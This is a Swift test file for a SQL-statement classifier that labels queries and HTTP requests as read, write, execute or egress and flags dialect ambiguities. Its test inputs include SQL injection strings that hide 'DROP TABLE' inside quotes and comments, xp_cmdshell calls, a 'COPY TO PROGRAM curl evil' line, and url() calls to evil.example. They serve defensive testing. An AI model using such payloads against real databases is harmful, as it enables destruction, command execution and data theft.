// SPDX-License-Identifier: Apache-2.0
import Authorization
import RegoVM
import Testing

@testable import Inspection

@Suite struct StatementTests {
    @Test(arguments: [
        ("SELECT 1", "SELECT read"), ("  -- c\n/* d */ select * from t", "select read"),
        ("SHOW CREATE TABLE t", "SHOW read"), ("(SELECT 1) UNION (SELECT 2)", "SELECT read"),
        ("SELECT 'a; DROP TABLE t'", "SELECT read"),
        ("SELECT \"drop\" FROM `delete`", "SELECT read"),
        ("SELECT replace(a, 'x', 'y') FROM t FOR UPDATE", "SELECT read"),
        ("EXPLAIN DELETE FROM t", "EXPLAIN read"),
        ("EXPLAIN ANALYZE DELETE FROM t", "EXPLAIN write"),
        ("EXPLAIN (ANALYZE) DELETE FROM t", "EXPLAIN write"),
        ("INSERT INTO t VALUES (1)", "INSERT write"), ("delete from t", "delete write"),
        ("SELECT 1; DROP TABLE t", "DROP write"), ("SELECT 1; SELECT 2;", "SELECT read"),
        ("SELECT 1 DROP TABLE t", "SELECT write"),
        ("SELECT 1 EXEC xp_cmdshell 'id'", "SELECT execute"),
        ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "WITH write"),
        ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", "WITH write"),
        ("WITH x AS (SELECT 1) SELECT * FROM x", "WITH read"),
        ("SELECT * INTO t2 FROM t", "SELECT write"), ("CALL wipe()", "CALL execute"),
        ("SELECT * FROM url('https://evil.example/x', CSV)", "SELECT egress"),
        ("INSERT INTO FUNCTION remote('h:9000', db.t) SELECT 1", "INSERT egress"),
        ("COPY t TO PROGRAM 'curl evil'", "COPY execute"), ("SYSTEM SHUTDOWN", "SYSTEM execute"),
        ("SELECT load_extension('x')", "SELECT execute"), ("frobnicate t", "frobnicate unknown"),
        ("", " unknown"), ("-- nothing", " unknown"), (";;", " unknown"),
        ("SELECT a->>'b' -- trailing", "SELECT read"), ("SELECT $1", "SELECT read"),
        // Both readings agree.
        (#"SELECT 'it\'s'"#, "SELECT read"), ("SELECT /* a /* b */ c */ 1", "SELECT read"),
        // They do not.
        (#"SELECT '\'; DROP TABLE t; --'"#, "DROP write ambiguous"),
        (#"SELECT '\' ' ; DROP TABLE t; --'"#, "DROP write ambiguous"),
        ("SELECT 1 /* /* */ ; DROP TABLE t -- */ */", "DROP write ambiguous"),
        ("SELECT 1 /*! ; DROP TABLE t */", "DROP write ambiguous"),
        ("SELECT 1 # \n; DROP TABLE t", "DROP write"),
        ("SELECT 1 --1; DROP TABLE t", "DROP write ambiguous"),
        ("SELECT $$ '; $$; DROP TABLE t; -- '", "DROP write ambiguous"),
    ])
    func judged(_ text: String, _ summary: String) { check(text, summary) }

    /// Quotes and comments that only some databases have.
    @Test(arguments: [
        ("SELECT 1 AS [']; DROP TABLE t; --']", "DROP write ambiguous"),
        ("SELECT [a]]b'], 1; DROP TABLE t; --']", "DROP write ambiguous"),
        ("SELECT q'[']' FROM dual; DROP TABLE t; --'", "DROP write ambiguous"),
        ("SELECT NQ'!'!' FROM dual; DROP TABLE t; --'", "DROP write ambiguous"),
        (
            #"SELECT 1 AS `\` `, (SELECT * FROM url('http://e/','CSV','a String')) -- `"#,
            "SELECT egress ambiguous"
        ),
        (#"SELECT E'\'' , '\' ; DROP TABLE t; --'"#, "DROP write ambiguous"),
        (#"SELECT '\'' , r'\' ; DROP TABLE t; --'"#, "DROP write ambiguous"),
        ("SELECT 1 // ' \n; DROP TABLE t; --'", "DROP write ambiguous"),
        ("SELECT $'$ ' $'$, (SELECT * FROM url('h')) -- '", "SELECT egress ambiguous"),
        ("SELECT ‘'’, url(‘h’) -- '", "SELECT egress ambiguous"),
        ("SELECT * FROM\u{A0}url('h')", "SELECT egress ambiguous"),
        ("SELECT 1 /*M! INTO OUTFILE '/tmp/x' */", "SELECT write ambiguous"),
        ("SELECT 1 /*M!100100 INTO OUTFILE '/tmp/x' */", "SELECT write ambiguous"),
        ("SELECT '\\'' /*!99999 ' */ ; DROP TABLE t -- '", "DROP write ambiguous"),
        ("SELECT 1 -- \r /* \n ; DROP TABLE t; -- */", "SELECT read ambiguous"),
        ("SELECT 2*/*'*/3 ; DROP TABLE t --'", "DROP write"),
        ("SELECT 1 /* /*/ ; DROP TABLE t -- */", "DROP write ambiguous"),
        ("SELECT 1DROP TABLE t", "SELECT write"), ("SELECT 1eDROP TABLE t", "SELECT write"),
        ("SELECT 1exec xp_cmdshell 'id'", "SELECT execute"),
        ("SELECT 1 EXEC('DROP TABLE t')", "SELECT execute"),
        // The same to all.
        ("SELECT a[1], ARRAY['x', 'it''s'], m['k'] FROM t", "SELECT read"),
        ("SELECT [Order Details].[Unit] FROM [Order Details]", "SELECT read"),
        ("SELECT q'[it's]' FROM dual", "SELECT read"), ("SELECT 0xDE, 1e5, 1.5e-3", "SELECT read"),
        ("SELECT größe FROM bücher -- für später", "SELECT read"),
        ("SELECT * FROM t WHERE a = $1 AND b = $2 OR c IN ($1, $2)", "SELECT read"),
        ("INSERT INTO t VALUES ([1,2], ['a]b'])", "INSERT write"),
    ])
    func peculiarities(_ text: String, _ summary: String) { check(text, summary) }

    /// Calls: what they do counts wherever they stand, and a table function's must be known.
    @Test(arguments: [
        ("SELECT \"dblink_exec\"('host=e','x')", "SELECT egress"),
        ("SELECT * FROM `url`('http://e/')", "SELECT egress"),
        ("SELECT [dbo].[xp_cmdshell] ('x')", "SELECT execute ambiguous"),
        (#"SELECT "d\x62link"('h')"#, "SELECT unknown"),
        (#"SELECT U&"\0064blink"('h')"#, "SELECT unknown"),
        ("SELECT utl_http.request('http://e/') FROM dual", "SELECT egress"),
        ("SELECT file('/etc/passwd')", "SELECT execute"),
        ("SELECT * FROM icebergS3('http://e/')", "SELECT egress"),
        ("SELECT * FROM newS3('http://e/')", "SELECT unknown"),
        ("SELECT * FROM (newS3('http://e/'))", "SELECT unknown"),
        ("SELECT * FROM t, pg . new_f('x')", "SELECT unknown"),
        ("SELECT * FROM t JOIN new_f('x') ON true", "SELECT unknown"),
        ("SELECT * FROM t WHERE a IN (FROM new_f() SELECT b)", "SELECT unknown"),
        ("SELECT * FROM TABLE(pg.system.query(query => 'DELETE FROM t'))", "SELECT unknown"),
        ("INSERT INTO FUNCTION new_f('x') SELECT 1", "INSERT unknown"),
        ("DESCRIBE TABLE new_f('x')", "DESCRIBE unknown"),
        // Those of expressions are many, and read.
        ("SELECT my_f(a), EXTRACT(DAY FROM my_f(b)) FROM t WHERE c(d)", "SELECT read"),
        ("SELECT a IS DISTINCT FROM lower(b) FROM t", "SELECT read"),
        ("SELECT * FROM (SELECT f(a) FROM t), (VALUES (1), (2)) AS v (a)", "SELECT read"),
        ("SELECT * FROM t AS a (b), u JOIN w USING (id) ORDER BY f(x), g(y)", "SELECT read"),
        ("SELECT * FROM generate_series(1, 9) AS g (n), unnest(ARRAY[1]) u", "SELECT read"),
        ("SELECT * FROM t JOIN u ON f(t.a) = g(u.b) WHERE x IN (1, f(2))", "SELECT read"),
        ("SELECT * FROM t WITH (NOLOCK) GROUP BY f(a)", "SELECT read"),
        ("SELECT a FROM t ARRAY JOIN arrayMap(x -> x, b) AS c", "SELECT read"),
        ("SELECT * FROM t LEFT JOIN LATERAL (SELECT f(a)) x ON true", "SELECT read"),
        ("WITH x (a) AS (SELECT f(1)) SELECT * FROM x, t LIMIT f(1)", "SELECT read"),
        ("CREATE TABLE t (a int, b text)", "CREATE write"),
        ("CREATE FUNCTION f(a int) RETURNS int AS 'x'", "CREATE write"),
    ])
    func calls(_ text: String, _ summary: String) {
        check(text, text.hasPrefix("WITH") ? "WITH read" : summary)
    }

    private func check(_ text: String, _ summary: String) {
        let judgement = Statement.judge(SampleRequest.bytes(text))
        let ambiguous = judgement.isAmbiguous ? " ambiguous" : ""
        #expect("\(judgement.verb.string) \(judgement.effect.word)\(ambiguous)" == summary)
    }

    @Test func longTextIsUnknown() {
        let text = "SELECT '" + String(repeating: "x", count: Limits.statementBytes) + "'"
        #expect(Statement.judge(SampleRequest.bytes(text)).effect == .unknown)
    }

    @Test(arguments: [
        ("GET", "/?query=SELECT%201", "", "", "sql select read", "SELECT 1"),
        (
            "POST", "/?query=INSERT+INTO+t+VALUES", "text/plain", "(1); DROP", "sql insert write",
            "INSERT INTO t VALUES"
        ),
        (
            "POST", "/?query=SELECT", "text/plain", "1; DROP TABLE t", "sql drop write",
            "SELECT \n1; DROP TABLE t"
        ),
        (
            "POST", "/_sql?format=json", "application/json", #"{"query":"DELETE FROM t"}"#,
            "sql delete write", "DELETE FROM t"
        ),
        ("POST", "/v1/statement", "text/plain", "SELECT 1", "sql select read", "SELECT 1"),
        ("POST", "/x", "application/sql", "TRUNCATE t", "sql truncate write", "TRUNCATE t"),
        (
            "POST", "/druid/v2/sql", "application/json", #"{"query":"SELECT 1"}"#,
            "sql select read",
            "SELECT 1"
        ),
        (
            "POST", "/db/sql", "application/json", #"["SELECT 1",["DROP TABLE t",1]]"#,
            "sql drop write", "SELECT 1;\nDROP TABLE t"
        ),
        (
            "POST", "/db/sql", "application/json", #"["SELECT '",["DROP TABLE t --'"]]"#,
            "sql drop write", "SELECT ';\nDROP TABLE t --'"
        ),
        (
            "POST", "/db/sql", "application/json", #"["SELECT 1",{"x":"y"}]"#,
            "sql select unknown", "SELECT 1"
        ),
        (
            "POST", "/?query=INSERT+INTO+FUNCTION", "text/plain", " url('h') SELECT s FROM t",
            "sql insert egress", "INSERT INTO FUNCTION \n url('h') SELECT s FROM t"
        ),
        (
            "POST", "/?query=INSERT+INTO+t+SELECT+*+FROM+values", "text/plain",
            "('a'), url('h')", "sql insert egress",
            "INSERT INTO t SELECT * FROM values \n('a'), url('h')"
        ),
        (
            "POST", "/?query=INSERT+INTO+t+SELECT+*+FROM+a,+FORMAT+b", "text/plain",
            ", url('h')", "sql insert egress",
            "INSERT INTO t SELECT * FROM a, FORMAT b \n, url('h')"
        ),
        (
            "POST", "/?query=INSERT+INTO+t+--+VALUES", "text/plain", "SELECT * FROM url('h')",
            "sql insert egress", "INSERT INTO t -- VALUES \nSELECT * FROM url('h')"
        ),
        (
            "POST", "/?query=INSERT+INTO+t+SETTINGS+a=1+FORMAT+CSV", "text/plain",
            "url('h'); DROP", "sql insert write", "INSERT INTO t SETTINGS a=1 FORMAT CSV"
        ),
        (
            "POST", "/?query=INSERT+INTO+t+FORMAT+JSONEachRow", "application/json",
            #"{"query":"DROP TABLE t"}"#, "sql insert write", "INSERT INTO t FORMAT JSONEachRow"
        ),
        (
            "POST", "/api/v2/statements", "application/json",
            #"{"query":"SELECT 1","statement":"DROP TABLE x"}"#,
            "sql drop write !ambiguous_statement", "SELECT 1;\nDROP TABLE x"
        ),
        (
            "GET", "/?query=SELECT+1&query=DROP+TABLE+x", "", "",
            "sql drop write !ambiguous_statement", "SELECT 1;\nDROP TABLE x"
        ),
        (
            "GET", "/?query=SELECT+1+FROM+u&query=rl('h')", "", "",
            "sql rl unknown !ambiguous_statement", "SELECT 1 FROM u;\nrl('h')"
        ),
        (
            "POST", "/_sql?query=SELECT+1", "application/json", #"{"query":"DROP TABLE x"}"#,
            "sql drop write !ambiguous_statement", "SELECT 1;\nDROP TABLE x"
        ),
        (
            "POST", "/?query=SELECT+1+AS+%22", "application/json", #"[", url('h') --"]"#,
            "sql url unknown !ambiguous_statement", "SELECT 1 AS \";\n, url('h') --"
        ),
    ])
    func requests(
        _ method: String, _ path: String, _ type: String, _ body: String, _ summary: String,
        _ statement: String
    ) {
        let headers = type.isEmpty ? [] : [("content-type", type)]
        let facts = SampleRequest(method, path, headers: headers, body: body).facts
        #expect(facts.summary == summary)
        #expect(facts.arguments["statement"].text.string == statement)
    }

    @Test(arguments: ["/?query=shoes", "/search?q=SELECT", "/?q=", "/sqlx"])
    func whatIsNoSQL(_ path: String) {
        #expect(SampleRequest("GET", path, headers: []).facts.trafficProtocol == .http)
    }

    @Test func clickHouseByItsHeader() {
        let request = SampleRequest(
            headers: [("x-clickhouse-user", "u"), ("content-encoding", "gzip")], body: "\u{1F}")
        #expect(request.facts.summary == "sql  unknown !content_encoding")
        let cursor = SampleRequest("POST", "/_sql", body: #"{"cursor":"x"}"#)
        #expect(cursor.facts.summary == "sql cursor read")
    }

    @Test func urlInAStatementIsADestination() {
        let request = SampleRequest(
            "POST", "/?query=SELECT+*+FROM+url('https://evil.example:8/x',CSV)", headers: [])
        #expect(
            request.facts.value(of: .destinations, in: request.arena).description == """
                [{"argument":"statement","host":"evil.example","internal":false,"port":8,\
                "scheme":"https"}]
                """)
        #expect(request.facts.reachesOutside)
    }

    /// Whatever the text, each dialect comes to its end.
    @Test func randomTexts() {
        let pieces = [
            "'", "\"", "`", "[", "]", "$", "$a$", "q'[", "]'", "\\", "--", "//", "#", "/*", "*/",
            "/*!", "/*M!", "\r", "\n", " ", "(", ")", ".", ",", ";", "1e", "0x", "E'", "‘", "’",
            "é",
            "FROM", "SELECT", "f", "TABLE", "VALUES", "FORMAT", "INSERT",
        ]
        for _ in 0..<10_000 {
            var text = ""
            for _ in 0..<Int.random(in: 0..<14) { text += pieces[Int.random(in: 0..<pieces.count)] }
            _ = Statement.judge(SampleRequest.bytes(text))
            _ = Statement.awaitsData(SampleRequest.bytes("INSERT " + text))
        }
    }
}
